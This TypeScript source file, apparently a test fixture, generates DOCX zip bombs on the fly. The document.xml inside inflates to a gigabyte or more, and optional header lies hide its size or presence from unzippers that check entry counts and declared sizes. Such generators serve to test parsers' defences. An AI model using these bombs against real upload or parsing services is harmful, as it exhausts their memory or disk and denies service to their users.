// Zip bombs built on the fly (never stored): a small DOCX whose word/document.xml really inflates to a
// gigabyte or more of repetitive XML, with central-directory sizes that may lie.
import zlib from "node:zlib";

const MiB = 1024 * 1024;

/**
 * A raw deflate stream inflating to `copies` × `chunk`: one block compressed after a full flush (which resets
 * the compressor) has the same bytes every time, so the block is repeated instead of compressing a gigabyte.
 */
function repeatedDeflate(chunk: Buffer, copies: number): Buffer {
  const block = zlib.deflateRawSync(chunk, { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
  const final = zlib.deflateRawSync(Buffer.alloc(0));
  return Buffer.concat([...Array.from({ length: copies }, () => block), final]);
}

interface Entry {
  name: string;
  data: Buffer;
  method: 0 | 8;
  crc: number;
  size: number;
}

/** A zip of the entries; the central directory lists the first `listed` of them, the end record states `stated`. */
function zip(entries: Entry[], declaredSize: (e: Entry) => number, stated = entries.length, listed = entries.length): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.method, 8);
    local.writeUInt32LE(e.crc, 14);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(declaredSize(e), 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(e.method, 10);
    central.writeUInt32LE(e.crc, 16);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(declaredSize(e), 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, e.data);
    if (centrals.length < 2 * listed) centrals.push(central, name);
    offset += 30 + name.length + e.data.length;
  }
  const dir = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(stated, 8);
  end.writeUInt16LE(stated, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dir, end]);
}

const stored = (name: string, text: string): Entry => {
  const data = Buffer.from(text);
  return { name, data, method: 0, crc: zlib.crc32(data), size: data.length };
};

/**
 * A DOCX whose word/document.xml inflates to `inflateMiB` MiB (default 1 GiB) of paragraphs. With `lie`, the
 * headers declare a few kilobytes instead (so only inflating reveals it); otherwise they state the truth
 * (4 GiB and more cannot be stated in a plain zip: the size field is capped). With `underCount` the end record
 * leaves word/document.xml out of its count (the central directory still lists it, as unzippers read it); with
 * `unlisted` the central directory leaves it out as well (a streaming unzipper still finds its local header).
 */
export function docxBomb(opts: { inflateMiB?: number; lie?: boolean; underCount?: boolean; unlisted?: boolean } = {}): Buffer {
  const mib = opts.inflateMiB ?? 1024;
  // Larger blocks compress better (each starts without a dictionary): 16 MiB blocks when the size allows.
  const blockMiB = mib % 16 === 0 ? 16 : 1;
  const paragraph = "<w:p><w:r><w:t>Điều khoản lặp lại nhiều lần.</w:t></w:r></w:p>";
  const chunk = Buffer.from(paragraph.repeat(Math.ceil((blockMiB * MiB) / Buffer.byteLength(paragraph)))).subarray(0, blockMiB * MiB);
  const copies = mib / blockMiB;
  let crc = 0;
  for (let i = 0; i < copies; i++) crc = zlib.crc32(chunk, crc);
  const xml: Entry = { name: "word/document.xml", data: repeatedDeflate(chunk, copies), method: 8, crc, size: mib * MiB };
  const types = stored(
    "[Content_Types].xml",
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
  );
  // With underCount the end record states one entry: a reader trusting the count sees only [Content_Types].xml;
  // with unlisted the central directory leaves word/document.xml out too (only its local header has it).
  const declared = (e: Entry) => (opts.lie && e === xml ? 4096 : Math.min(e.size, 0xffffffff));
  return zip([types, xml], declared, opts.underCount || opts.unlisted ? 1 : 2, opts.unlisted ? 1 : 2);
}
